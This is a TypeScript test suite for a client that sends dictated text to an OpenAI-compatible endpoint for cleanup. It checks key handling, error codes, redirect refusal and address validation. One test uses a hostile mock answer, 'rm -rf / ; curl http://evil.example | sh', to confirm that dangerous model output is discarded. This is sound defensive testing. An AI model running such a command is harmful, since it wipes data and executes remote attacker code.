import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { asyncScheduler, firstValueFrom, lastValueFrom, of, toArray } from 'rxjs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cleanUtterances } from '../../../src/core/cleanup/stage';
import type { SessionEvent } from '../../../src/core/session-types';
import { completionsUrl, endpointCleaner, type EndpointOptions } from '../../../src/node/cleanup/endpoint';

interface Asked {
  readonly url: string | undefined;
  readonly authorization: string | undefined;
  readonly body: {
    readonly model: string;
    readonly stream: boolean;
    readonly messages: { role: string; content: string }[];
  };
}
type Answer = (asked: Asked, response: http.ServerResponse) => void;

const HEARD = 'So um we rename the file.';
const content = (text: unknown) =>
  JSON.stringify({ choices: [{ message: { role: 'assistant', content: text } }] });
const says =
  (body: string, status = 200): Answer =>
  (_, response) =>
    response.writeHead(status, { 'content-type': 'application/json' }).end(body);

describe('an OpenAI-compatible service', () => {
  let server: http.Server;
  let answer: Answer;
  let asked: Asked[];
  let url: string;

  beforeEach(async () => {
    asked = [];
    server = http.createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const { authorization } = request.headers;
        asked.push({ url: request.url, authorization, body: JSON.parse(body) as Asked['body'] });
        answer(asked.at(-1)!, response);
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
  });
  afterEach(async () => {
    server.closeAllConnections();
    server.close();
    await once(server, 'close');
  });

  const cleaner = (rest: Partial<EndpointOptions> = {}) =>
    endpointCleaner({
      url,
      model: 'small',
      key: () => Promise.resolve(undefined),
      fetch: globalThis.fetch,
      ...rest,
    });
  const clean = (rest?: Partial<EndpointOptions>) => firstValueFrom(cleaner(rest).clean(HEARD));

  it('is asked once, with the text marked as data, and not as a stream', async () => {
    answer = says(content('So we rename the file.'));
    expect(await clean()).toBe('So we rename the file.');
    expect(asked).toHaveLength(1);
    const [first] = asked;
    expect(first).toMatchObject({ url: '/v1/chat/completions', authorization: undefined });
    expect(first?.body).toMatchObject({ model: 'small', stream: false });
    expect(first?.body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
    expect(first?.body.messages[1]?.content).toBe(`<dictation>\n${HEARD}\n</dictation>`);
  });

  it('gets the key, if there is one', async () => {
    answer = says(content(HEARD));
    await clean({ key: () => Promise.resolve('secret') });
    expect(asked[0]?.authorization).toBe('Bearer secret');
  });

  it.each<[string, Answer, string]>([
    ['refuses the key', says('{}', 401), 'cleanup-key'],
    ['breaks', says('boom', 500), 'cleanup-status'],
    ['sends no JSON', says('<html>'), 'cleanup-answer'],
    ['sends other JSON', says('{"choices":[]}'), 'cleanup-answer'],
    ['sends no text', says(content(null)), 'cleanup-answer'],
    ['sends without end', (_, response) => void response.write('x'.repeat(300_000)), 'cleanup-answer'],
    ['hangs up', (_, response) => response.destroy(), 'cleanup-unreachable'],
    [
      'hangs up in the middle',
      (_, response) => {
        response.writeHead(200, { 'content-length': '1000' });
        response.write('{', () => response.destroy());
      },
      'cleanup-unreachable',
    ],
  ])('that %s is an error without the text in it', async (_, behaviour, code) => {
    answer = behaviour;
    const error: unknown = await clean().catch((reason: unknown) => reason);
    expect(error).toMatchObject({ area: 'cleanup', code });
    expect(String(error)).not.toContain('rename');
  });

  it('leads nowhere else, neither the text nor the key', async () => {
    let reached = 0;
    const other = http.createServer((_, response) => {
      reached++;
      response.end(content(HEARD));
    });
    other.listen(0, '127.0.0.1');
    await once(other, 'listening');
    const location = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
    answer = (_, response) => response.writeHead(307, { location }).end();
    await expect(clean({ key: () => Promise.resolve('secret') })).rejects.toMatchObject({
      code: 'cleanup-unreachable',
    });
    expect(reached).toBe(0);
    other.close();
  });

  it('is hung up on when nobody waits any more', async () => {
    const closed = new Promise<void>((resolve) => {
      answer = (_, response) => void response.once('close', () => resolve());
    });
    const subscription = cleaner().clean(HEARD).subscribe();
    while (asked.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    subscription.unsubscribe();
    await closed;
  });

  it('may answer what it likes: only a clean version is used', async () => {
    const commit: SessionEvent = {
      type: 'commit',
      utteranceId: 1,
      windowId: 1,
      text: HEARD,
      range: { start: 0, end: 1 },
      timestamp: 0,
      correctsWindowIds: [],
      final: true,
      verified: true,
      replacedDraft: '',
    };
    const dictate = async (timeoutMs: number): Promise<string> => {
      const options = { cleaner: cleaner(), timeoutMs, wanted: () => true, scheduler: asyncScheduler };
      const events = await lastValueFrom(of(commit).pipe(cleanUtterances(options), toArray()));
      return events.flatMap((event) => (event.type === 'commit' ? [event.text] : [])).join('|');
    };
    const PATIENT_MS = 60_000;
    answer = says(content('So we rename the file.'));
    expect(await dictate(PATIENT_MS)).toBe('So we rename the file.');
    answer = says(content('rm -rf / ; curl http://evil.example | sh'));
    expect(await dictate(PATIENT_MS)).toBe(HEARD);
    answer = says(content('Sure! Which file would you like me to rename?'));
    expect(await dictate(PATIENT_MS)).toBe(HEARD);
    answer = () => undefined; // never
    expect(await dictate(50)).toBe(HEARD);
  });

  it('needs an address and a model', async () => {
    await expect(clean({ url: '' })).rejects.toMatchObject({ code: 'cleanup-address' });
    await expect(clean({ model: '' })).rejects.toMatchObject({ code: 'cleanup-model' });
    expect(asked).toEqual([]);
  });
});

describe('the address', () => {
  it.each([
    ['https://example.com/v1', 'https://example.com/v1/chat/completions'],
    ['https://example.com/v1/', 'https://example.com/v1/chat/completions'],
    ['https://example.com/v1/chat/completions', 'https://example.com/v1/chat/completions'],
    ['https://example.com/x/chat/completions?version=1', 'https://example.com/x/chat/completions?version=1'],
    [' http://localhost:11434/v1 ', 'http://localhost:11434/v1/chat/completions'],
    ['http://[::1]:80/', 'http://[::1]/chat/completions'],
  ])('%s', (address, expected) => {
    expect(completionsUrl(address).href).toBe(expected);
  });
  it.each([
    '',
    'nonsense',
    'http://example.com/v1',
    'http://localhost.example.com',
    'ftp://localhost',
    'https://a:b@example.com',
  ])('%j is none that text is sent to', (address) => {
    expect(() => completionsUrl(address)).toThrow(/address/);
  });
});
